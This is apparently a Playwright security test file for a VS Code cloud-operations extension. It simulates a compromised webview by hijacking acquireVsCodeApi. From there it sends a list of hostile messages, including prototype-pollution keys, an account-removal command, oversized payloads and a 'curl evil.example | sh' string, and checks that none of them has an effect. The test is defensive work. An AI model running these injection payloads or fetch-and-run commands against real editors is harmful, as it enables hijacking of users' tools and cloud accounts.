import type { Frame } from 'playwright-core';
import { setTimeout as sleep } from 'node:timers/promises';
import type { HostileLab } from './hostileLab.ts';
import type { Case } from './matrix.ts';
import { webviewThat } from './signedIn.ts';

/** Keeps the way to the extension, as a script that got into a webview would. */
const STEAL_API = `{
  let real;
  Object.defineProperty(globalThis, 'acquireVsCodeApi', {
    configurable: true,
    set: (value) => { real = value; },
    get: () => real && (() => (globalThis.stolen ??= real())),
  });
}`;

/** What a webview could say: a new one is a line here. Expressions, since some are no JSON. */
const MESSAGES: readonly (readonly [string, string])[] = [
  ['nothing', 'undefined'],
  ['null', 'null'],
  ['a text', `'ready'`],
  ['a number', '7'],
  ['a list', `[{ type: 'ready' }]`],
  ['no type', `{ action: 'copyOperationId' }`],
  ['unknown type', `{ type: 'eval', code: 'process.exit()' }`],
  ['prototype type', `{ type: '__proto__' }`],
  ['constructor type', `{ type: 'constructor' }`],
  ['type as a list', `{ type: ['action'], action: 'copyOperationId' }`],
  ['command of VS Code', `{ type: 'action', action: 'workbench.action.quit' }`],
  ['command of ours', `{ type: 'action', action: 'emrOperations.removeAccount' }`],
  ['action of the prototype', `{ type: 'action', action: '__proto__' }`],
  ['action of all objects', `{ type: 'action', action: 'toString' }`],
  ['action with arguments', `{ type: 'action', action: 'removeAccount', args: ['demo'] }`],
  ['open another ID', `{ type: 'open', id: 'a/cn-hangzhou/c-00000000000000aa/op-00000000000000aa' }`],
  ['open a prototype', `{ type: 'open', id: '__proto__' }`],
  ['open an object', `{ type: 'open', id: { accountId: 'a', regionId: 'cn-evil-1' } }`],
  ['copy a text of its own', `{ type: 'copy', id: 'curl evil.example | sh', text: 'owned' }`],
  ['copy a prototype', `{ type: 'copy', id: '__proto__' }`],
  ['step of another block', `{ type: 'step', label: 'Copy Policy', block: '__proto__' }`],
  ['step of no problem', `{ type: 'step', label: 'Update Credentials…' }`],
  ['range of its own', `{ type: 'range', range: '__proto__' }`],
  ['range as a number', `{ type: 'range', range: 1e308 }`],
  ['ten megabytes', `{ type: 'copy', id: 'x'.repeat(10_000_000) }`],
  [
    'a hundred thousand keys',
    `Object.fromEntries(Array.from({ length: 100_000 }, (_, at) => ['k' + at, at]))`,
  ],
  [
    'a deep one',
    `(() => { let deep = {}; for (let at = 0; at < 5_000; at += 1) deep = { deep }; return { type: 'open', id: deep }; })()`,
  ],
  ['own prototype', `JSON.parse('{"type":"action","action":"copyLink2","__proto__":{"action":"copyLink"}}')`],
];

/** What is asked for by itself while somebody looks at views and a panel. */
const UPKEEP = new Set([
  'GetOperation',
  'ListAutoScalingActivities',
  'ListClusters',
  'ListNodeGroups',
  'LookupEvents',
]);

/** What only messages name. */
const OWN_IDS = /evil|-0{14}aa/;

/** A webview that was taken over says what it should not; nothing may come of it. */
export async function webviews(lab: HostileLab, onCase: (found: Case) => void): Promise<void> {
  const { workbench, probed } = lab;
  await probed.session.context.addInitScript(STEAL_API);
  await probed.probe('command', 'workbench.action.closePanel');
  const [{ regionId, clusterId } = { regionId: '', clusterId: '' }] = lab.simulator.showcase;
  const address = lab.simulator.addOperation({ regionId, clusterId, type: 'INCREASE_NODES', event: null });
  await probed.probe('watchOperation', address);
  await lab.run('openOperation', address);
  await workbench.runCommand('EMR: Show Timeline');
  for (const [where, selector] of [
    ['panel', 'main .state'],
    ['timeline', '.stage'],
  ] as const) {
    const frame = await stolen(lab, selector);
    for (const [what, message] of MESSAGES) {
      const before = await effects(lab);
      await frame.evaluate(`globalThis.stolen.postMessage(${message})`).catch(() => undefined);
      await sleep(400);
      const after = await effects(lab);
      const rejected = await probed.probe<readonly string[]>('rejections');
      const failure = [...(before === after ? [] : [`${before} became ${after}`]), ...rejected].join(' | ');
      onCase({ what: `message: ${what}`, where, ...(failure === '' ? {} : { failure }) });
    }
  }
  lab.simulator.setOperation(address, { state: 'COMPLETED' });
  await lab.mend();
}

async function stolen(lab: HostileLab, selector: string): Promise<Frame> {
  const isStolen = `globalThis.stolen !== undefined && document.querySelector('${selector}') !== null`;
  return webviewThat(`a webview with ${selector}`, lab.workbench, (frame) =>
    frame.evaluate<boolean>(isStolen),
  );
}

/** What somebody would see, or the cloud hear, if anything came of a message. */
async function effects(lab: HostileLab): Promise<string> {
  const { page, quickInput } = lab.workbench;
  const asked = lab.simulator.requests.filter(
    ({ action, parameters }) => !UPKEEP.has(action) || OWN_IDS.test(JSON.stringify(parameters)),
  ).length;
  return JSON.stringify({
    tabs: await page.locator('.part.editor .tab').count(),
    prompt: await quickInput.widget.isVisible(),
    dialogs: await page.locator('.monaco-dialog-box').count(),
    toasts: await page.locator('.notification-toast-container').count(),
    clipboard: await lab.probed.probe('clipboard'),
    asked,
  });
}
